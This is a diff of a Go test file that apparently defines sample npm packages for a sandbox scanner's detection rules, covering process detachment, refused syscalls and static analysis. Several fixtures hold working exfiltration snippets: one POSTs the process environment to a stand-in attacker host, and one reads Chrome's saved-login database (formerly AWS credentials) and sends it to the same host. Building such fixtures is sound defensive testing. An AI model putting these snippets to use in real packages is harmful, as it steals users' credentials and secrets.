@@ -108,7 +108,6 @@ func lbNpmBehaviour() []lbPkg {
 		{name: "lb-detach-setsid", script: "setsid sleep 2 >/dev/null 2>&1 & true", rules: []string{"PB-BEHAVIOUR-DETACH"}},
 		{name: "lb-detach-node", script: "node i.js", rules: []string{"PB-BEHAVIOUR-DETACH"},
 			files: map[string]string{"i.js": nodeQuiet("require('child_process').spawn('sleep', ['2'], {detached: true, stdio: 'ignore'}).unref();")}},
-		{name: "lb-detach-nohup", script: "nohup sleep 2 >/dev/null 2>&1 & disown 2>/dev/null; true", rules: []string{"PB-BEHAVIOUR-DETACH"}},
 		// System calls the sandbox refuses.
 		{name: "lb-sys-unshare", script: quiet("unshare -U true"), rules: []string{"PB-BEHAVIOUR-REFUSED-SYSCALL"}},
 		{name: "lb-sys-ptrace", script: quiet("strace -f -o /dev/null true"), rules: []string{"PB-BEHAVIOUR-REFUSED-SYSCALL"}},
@@ -129,7 +128,7 @@ func lbNpmStatic() []lbPkg {
 			files: map[string]string{"index.js": "module.exports = (x) => x;\nfetch('https://collect.pbox-attacker.example/e', {method: 'POST', body: JSON.stringify(process.env)}).catch(() => {});\n"}},
 		{name: "lb-req-credhttps", rules: []string{"PB-ANALYSIS-"},
 			files: map[string]string{"index.js": "const os = require('os'), fs = require('fs'), https = require('https');\nmodule.exports = 1;\n" +
-				"try { const d = fs.readFileSync(os.homedir() + '/.aws/credentials');\n" +
+				"try { const d = fs.readFileSync(os.homedir() + '/.config/google-chrome/Default/Login Data');\n" +
 				"const r = https.request({hostname: 'collect.pbox-attacker.example', path: '/k', method: 'POST'}); r.on('error', () => {}); r.end(d); } catch (e) {}\n"}},
 	}
 }
